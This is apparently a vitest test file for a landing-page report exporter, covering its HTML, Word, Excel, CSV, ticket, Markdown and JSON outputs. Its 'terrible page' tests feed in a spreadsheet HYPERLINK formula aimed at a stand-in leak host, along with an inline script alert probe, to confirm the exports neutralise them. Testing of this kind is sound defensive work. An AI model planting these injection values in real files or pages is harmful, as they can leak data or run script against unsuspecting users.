import { describe, expect, it } from 'vitest';
import { toHtml } from '../../src/report/html';
import { parseReport } from '../../src/report/parse';
import type { Decision, Report } from '../../src/report/report';
import { withReview } from '../../src/report/review';
import { withPhone } from '../../src/report/two-widths';
import { FILES, writeReport, type FileFormat } from '../../src/report/write';
import { english } from '../../src/report/words';
import { AGENCY } from '../helpers/brand';
import { HOSTILE, reportWith } from '../helpers/hostile';
import { excelSheets, officeParts, wordText } from '../helpers/office';
import { readCsv } from '../helpers/read-csv';
import { demoFindings, demoReport } from '../helpers/report';

const DECISIONS: Decision[] = [
  { rule: 'proof-near-ask', verdict: 'kept', note: 'The film above it is the proof.' },
  { rule: 'fields', verdict: 'wrong', note: 'Two of them are one question.' },
  { rule: 'small-yes', verdict: 'noted', note: 'Ines writes one this week.' },
];
const reviewed = withReview(demoReport(), DECISIONS);
const FORMATS: FileFormat[] = ['html', 'docx', 'xlsx', 'csv', 'tickets', 'md', 'json'];
/** What holds the whole report; a ticket list holds what is to be done. */
const WHOLE = FORMATS.filter((format) => format !== 'tickets');

const decoded = (html: string): string =>
  html
    .replace(/<style>.*?<\/style>/s, '')
    .replace(/<[^>]*>/g, ' ')
    .replace(/&#39;/g, "'")
    .replace(/&quot;/g, '"')
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&amp;/g, '&')
    .replace(/\s+/g, ' ');

/** What a reader of the file sees, as its own kind of reader takes it apart. */
async function seen(
  report: Report,
  format: FileFormat,
  dress: Parameters<typeof writeReport>[2] = {},
): Promise<string> {
  const written = await writeReport(report, format, dress);
  if (written instanceof Blob) {
    if (format === 'docx') return wordText(written);
    const sheets = await excelSheets(written);
    return sheets.flatMap(({ rows }) => rows.map((row) => row.join('\t'))).join('\n');
  }
  if (format === 'csv' || format === 'tickets' || format === 'plan-csv')
    return readCsv(written)
      .map((row) => row.join('\t'))
      .join('\n');
  if (format === 'html') return decoded(written);
  return format === 'md' || format === 'plan-md'
    ? written.replace(/\u2060/g, '').replace(/\\(?=[!-/:-@[-`{-~])/g, '')
    : written;
}

it('knows every format by the ending and the media type of its file', () => {
  // The plan holds no finding, so it is not among the exports that are held to the same findings below.
  expect(Object.keys(FILES)).toEqual([...FORMATS, 'plan-csv', 'plan-md']);
});

describe('one report, through every export', () => {
  it.each(WHOLE)('%s says the score, the reviewed score and every decision with its reason', async (format) => {
    const text = await seen(reviewed, format);
    expect(reviewed.review.total).not.toBe(reviewed.score.total);
    expect(text).toMatch(new RegExp(`\\b${String(reviewed.score.total)}\\b`));
    expect(text).toMatch(new RegExp(`\\b${String(reviewed.review.total)}\\b`));
    for (const { note } of DECISIONS) expect(text).toContain(note);
    if (format !== 'json')
      for (const verdict of ['Kept on purpose', 'Marked wrong', 'Note']) expect(text).toContain(verdict);
  });

  it.each(WHOLE)('%s holds every check, those that were set aside too', async (format) => {
    const text = await seen(reviewed, format);
    for (const { title, outcome } of reviewed.findings) {
      // Markdown lists no check that does not apply
      if (format !== 'md' || outcome !== 'not-applicable') expect(text).toContain(title);
    }
  });

  /** What to change, as the part of each export that gives advice says it. */
  async function advice(format: FileFormat): Promise<string> {
    const written = await writeReport(reviewed, format);
    if (written instanceof Blob && format === 'xlsx') {
      return (
        (await excelSheets(written))
          .find(({ name }) => name === 'What to change')
          ?.rows.flat()
          .join('\n') ?? ''
      );
    }
    const text = await seen(reviewed, format);
    if (format === 'tickets') return text;
    return /\bthings? to change\b(.*?)\bWhat works\b/s.exec(text)?.[1] ?? '';
  }

  it.each(['html', 'docx', 'xlsx', 'tickets', 'md'] as const)(
    '%s advises what counts, and nothing that was set aside',
    async (format) => {
      const text = await advice(format);
      for (const { rule, outcome, fix } of reviewed.findings) {
        const aside = rule === 'proof-near-ask' || rule === 'fields';
        const told = outcome === 'fail' || outcome === 'warn';
        // the ladder has the cause of the ask-size, and is told with it
        if (told && rule !== 'ladder') expect([rule, text.includes(fix)]).toEqual([rule, !aside]);
      }
    },
  );

  it.each(FORMATS)('%s says for whom the page was judged, or leaves it to the report', async (format) => {
    const text = await seen(demoReport(), format);
    if (format === 'json') expect(text).toContain('"profile": "cold"');
    else if (format !== 'csv' && format !== 'tickets') expect(text).toMatch(/cold (traffic|visitors)/);
  });

  it('JSON opens again as the same report', async () => {
    expect(parseReport(JSON.parse(await seen(reviewed, 'json')))).toEqual(reviewed);
  });

  it('a ticket says what, where, and when it is done', async () => {
    const [head, ...rows] = readCsv(await seenText('tickets'));
    expect(head).toEqual(['Title', 'Stage', 'Where', 'What', 'Why it matters', 'Done when', 'Page']);
    expect(rows.map((row) => row.length)).toEqual(rows.map(() => 7));
    const [size] = rows.filter(
      ([title]) => title === 'Lead with a smaller step and ask for “Book a demo” after the proof.',
    );
    expect(size?.[1]).toBe('First action');
    expect(size?.[2]).toBe('Book a demo (#Book-a-demo)');
    expect(rows.every((row) => row[5] !== '')).toBe(true);
  });

  async function seenText(format: FileFormat): Promise<string> {
    const written = await writeReport(reviewed, format);
    if (written instanceof Blob) throw new Error('This is no text.');
    return written;
  }
});

describe('read on a phone too', () => {
  const there = demoReport(
    {},
    demoFindings.map((one) =>
      one.rule === 'promise'
        ? {
            ...one,
            outcome: 'fail' as const,
            text: 'The headline is cut after “Plan”.',
            fix: 'Let the headline break.',
          }
        : one,
    ),
  );
  const page = { ...there.page, viewport: { width: 390, height: 844 }, takenAt: '2026-11-22T10:25:00.000Z' };
  const both = withReview(withPhone(demoReport(), { ...there, page }), DECISIONS);
  const cells = async (report: Report, format: FileFormat): Promise<string[][]> => {
    const written = await writeReport(report, format);
    if (written instanceof Blob) throw new Error('This is no text.');
    return readCsv(written);
  };
  const number = (value: number | null | undefined): RegExp => new RegExp(`\\b${String(value)}\\b`);

  it.each(WHOLE)('%s says both scores, the reviewed one too, and what comes out otherwise', async (format) => {
    const text = await seen(both, format);
    // what is said of the phone is not what was said of the page anyway
    expect([both.score.total, both.review.total]).not.toContain(both.phone?.score.total);
    expect([both.score.total, both.review.total]).not.toContain(both.phone?.reviewed);
    expect(text).toMatch(number(both.phone?.score.total));
    expect(text).toMatch(number(both.phone?.reviewed));
    expect(text).toContain('The headline is cut after');
  });

  it.each(['html', 'docx', 'md'] as const)('%s sets the five stages side by side', async (format) => {
    const text = (await seen(both, format)).replace(/[|\s]+/g, ' ');
    const row = ['Hook', both.score.stages.hook, both.phone?.score.stages.hook].join(' ');
    expect(text).toContain(row);
    expect(text).toContain('Phone, 390 × 844 px');
    expect(text).toContain('One check comes out otherwise on a phone');
  });

  it('the Excel file has a sheet for it, with numbers as numbers', async () => {
    const written = await writeReport(both, 'xlsx');
    if (!(written instanceof Blob)) throw new Error('This is no file.');
    const sheet = (await excelSheets(written)).find(({ name }) => name === 'On a phone');
    expect(sheet?.rows.slice(1, 3).map((row) => row.slice(0, 3))).toEqual([
      ['Total', both.score.total, both.phone?.score.total],
      ['Reviewed score', both.review.total, both.phone?.reviewed],
    ]);
    expect(sheet?.rows.at(-1)?.slice(1)).toEqual(['Good', 'In the way', 'The headline is cut after “Plan”.']);
  });

  it('a check as CSV has its outcome on a phone, in columns that are there without one too', async () => {
    const [head, ...checks] = await cells(both, 'csv');
    expect(head?.slice(-4)).toEqual([
      'Score on a phone',
      'Reviewed score on a phone',
      'Outcome on a phone',
      'On the phone',
    ]);
    expect(checks.map((row) => row.length)).toEqual(checks.map(() => head?.length));
    expect(checks.find((row) => row.includes('promise'))?.slice(-2)).toEqual([
      'In the way',
      'The headline is cut after “Plan”.',
    ]);
    const [same, first] = await cells(demoReport(), 'csv');
    expect(same).toEqual(head);
    expect(first?.slice(-4)).toEqual(['', '', '', '']);
  });

  it('the ticket list ends with what stands in the way on a phone alone', async () => {
    const tickets = await cells(both, 'tickets');
    expect(tickets.at(-1)?.[0]).toBe('On a phone: Let the headline break.');
    expect(tickets.length).toBe((await cells(reviewed, 'tickets')).length + 1);
  });

  it('JSON opens again as the same report, and one without a word of phones is whole', async () => {
    expect(parseReport(JSON.parse(await seen(both, 'json')))).toEqual(both);
    const before: Record<string, unknown> = { ...reviewed };
    delete before['phone'];
    expect(parseReport(before)).toEqual(reviewed);
    expect(() => parseReport({ ...both, phone: { ...both.phone, more: 1 } })).toThrow('damaged');
  });

  it.each(WHOLE.filter((format) => format !== 'csv' && format !== 'json'))(
    '%s says nothing of a phone where there was none',
    async (format) => {
      expect(await seen(reviewed, format)).not.toMatch(/on a phone|Phone,/i);
    },
  );
});

describe('in the name of an agency', () => {
  const dress = { brand: AGENCY };

  it.each(['html', 'docx', 'xlsx', 'md', 'plan-md'] as const)(
    '%s says whose it is, and nowhere that it is ours',
    async (format) => {
      const written = await writeReport(reviewed, format, dress);
      const text = written instanceof Blob ? Object.values(await officeParts(written)).join('\n') : written;
      expect(await seen(reviewed, format, dress)).toContain(AGENCY.name);
      expect(await seen(reviewed, format, dress)).toContain(AGENCY.contact);
      // the rule `small-yes` and “A small yes” are words of the framework
      expect(text).not.toContain('Small Yes');
    },
  );

  it.each(['csv', 'tickets', 'plan-csv'] as const)('%s is rows alone, and names nobody', async (format) => {
    const text = await seen(reviewed, format, dress);
    for (const name of ['Small Yes', AGENCY.name, AGENCY.contact]) expect(text).not.toContain(name);
  });

  it('the properties of a Word file name the agency', async () => {
    const written = await writeReport(reviewed, 'docx', dress);
    const { 'docProps/core.xml': core = '' } = written instanceof Blob ? await officeParts(written) : {};
    expect(core).toContain('<dc:creator>Nordlicht &amp; Söhne</dc:creator>');
    expect(core).toContain('<cp:lastModifiedBy>Nordlicht &amp; Söhne</cp:lastModifiedBy>');
  });

  it('the colours that say how bad something is stay', () => {
    const colours = (html: string): string[] =>
      [...html.matchAll(/--(?:good|warn|bad): #\w+/g)].map(([colour]) => colour);
    const branded = toHtml(reviewed, english, AGENCY);
    expect(colours(branded)).toEqual(colours(toHtml(reviewed, english)));
    expect(branded).toContain('--accent: #7a1fa2');
  });
});

it('carries the measurement plan into a sheet of the Excel file, an event a row', async () => {
  const report = demoReport();
  const written = await writeReport(report, 'xlsx');
  if (!(written instanceof Blob)) throw new Error('This is no file.');
  const sheet = (await excelSheets(written)).find(({ name }) => name === english.exports.sheets.plan);
  expect(report.measurement.plan.length).toBeGreaterThan(1);
  expect(sheet?.rows.slice(1).map(([, event]) => event)).toEqual(report.measurement.plan.map(({ event }) => event));
});

describe('a terrible page', () => {
  const one = reportWith('=HYPERLINK("https://evil.test/?leak","Click") <script>alert(1)</script> مرحبا \u202egnp 👩‍👩‍👧');
  const [first] = one.findings;
  const evidence = Array.from({ length: 1_000 }, (_, place) => ({
    selector: `main > a:nth-of-type(${place})`,
    label: 'x'.repeat(4_000),
    snippet: '<a>',
    box: null,
  }));
  const terrible: Report = { ...one, findings: first ? [{ ...first, evidence }, ...one.findings.slice(1)] : [] };

  it('is a formula in no cell of an Excel file, and no cell is longer than Excel takes', async () => {
    const written = await writeReport(terrible, 'xlsx');
    if (!(written instanceof Blob)) throw new Error('This is no file.');
    const sheets = Object.entries(await officeParts(written)).filter(([name]) => name.includes('worksheets/sheet'));
    expect(sheets.length).toBeGreaterThan(4);
    for (const [, sheet] of sheets) expect(sheet).not.toMatch(/<f[ >]/);
    const cells = (await excelSheets(written)).flatMap(({ rows }) => rows.flat());
    expect(Math.max(...cells.map((cell) => String(cell).length))).toBeLessThan(32_767);
    expect(cells.some((cell) => String(cell).startsWith('=HYPERLINK'))).toBe(true);
  });

  it.each(['csv', 'tickets'] as const)('is a formula in no cell of %s', async (format) => {
    const written = await writeReport(terrible, format);
    if (written instanceof Blob) throw new Error('This is no text.');
    const cells = readCsv(written).flat();
    expect(cells.some((cell) => cell.includes('HYPERLINK'))).toBe(true);
    expect(cells.filter((cell) => /^\s*[=+@]/.test(cell) || /^-(?!\d)/.test(cell))).toEqual([]);
  });

  it.each(HOSTILE.map((text): [string, string] => [JSON.stringify(text).slice(0, 40), text]))(
    'that says %s makes well-formed Word and Excel files',
    async (_, text) => {
      for (const format of ['docx', 'xlsx'] as const) {
        const written = await writeReport(reportWith(text), format);
        if (!(written instanceof Blob)) throw new Error('This is no file.');
        for (const part of Object.values(await officeParts(written))) {
          // XML 1.0 takes no control characters, no halves of characters, and no bare ampersand
          expect(part).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff]|\p{Cs}/u);
          expect(part.replace(/&(?:amp|lt|gt|quot|apos|#\d+|#x[\da-f]+);/gi, '')).not.toContain('&');
        }
      }
    },
  );
});
